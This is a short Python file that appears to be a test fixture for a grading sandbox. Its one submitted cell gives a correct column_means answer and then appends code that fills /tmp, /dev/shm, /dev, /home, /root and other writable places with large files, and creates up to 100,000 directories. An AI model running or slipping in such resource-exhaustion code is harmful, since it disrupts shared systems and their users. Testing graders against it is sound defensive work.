"""It fills every place that can be written, with large files and with many; the answer is right."""

MARKS = {}
CELLS = {
    "0.1": """
def column_means(X):
    return X.mean(axis=0)

import os
for place in (".", "/tmp", "/dev/shm", "/run/mlpkit", "/var/tmp", "/dev", "/home", "/root"):
    for number in range(3):
        try:
            with open(f"{place}/fill{number}", "wb") as file:
                for _ in range(40):
                    file.write(bytes(10_000_000))
        except OSError as error:
            print(place, type(error).__name__)
for number in range(100_000):
    try:
        os.mkdir(f"/tmp/d{number}")
    except OSError:
        break
"""
}
